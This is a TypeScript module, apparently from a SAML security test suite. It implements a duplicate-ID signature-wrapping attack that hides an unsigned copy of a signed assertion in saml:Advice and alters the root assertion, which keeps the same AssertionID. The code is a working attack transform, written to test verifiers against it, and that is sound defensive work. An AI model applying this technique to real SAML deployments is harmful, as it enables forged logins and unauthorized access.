/**
 * Duplicate IDs: the root turns evil but keeps the original AssertionID, and an unsigned copy of
 * the original, with the same AssertionID, goes into saml:Advice. `#id` then names two elements:
 * a resolver that picks the copy verifies it while the reader reads the evil root.
 * @see XML-DSig core §4.4.3.3 (same-document references by ID); xml-crypto 6 validateReference
 *   ("multiple elements with the same value for the ID")
 */
import { NS } from '../../xml/namespaces.ts';
import { firstChild } from '../../xml/parse-xml.ts';
import { applyEvil, dropSignature, readSigned, write } from './edit.ts';
import type { SamlAttack } from './types.ts';

export const DUPLICATE_IDS: SamlAttack = {
  name: 'duplicate-ids',
  fixture: 'duplicate-ids-evil-root-same-assertion-id',
  summary:
    'the evil root and an unsigned copy of the original in saml:Advice share the signed AssertionID',
  source: 'XML-DSig core §4.4.3.3; xml-crypto validateReference duplicate-ID guard',
  apply: ({ signed, evil }) => {
    const s = readSigned(signed);
    const copy = dropSignature(s.assertion.cloneNode(true) as Element);
    applyEvil(s.assertion, evil);
    const advice = s.doc.createElementNS(NS.saml11, 'saml:Advice');
    advice.appendChild(copy);
    const conditions = firstChild(s.assertion, NS.saml11, 'Conditions');
    s.assertion.insertBefore(advice, conditions ? conditions.nextSibling : s.assertion.firstChild);
    return write(s.doc);
  },
};
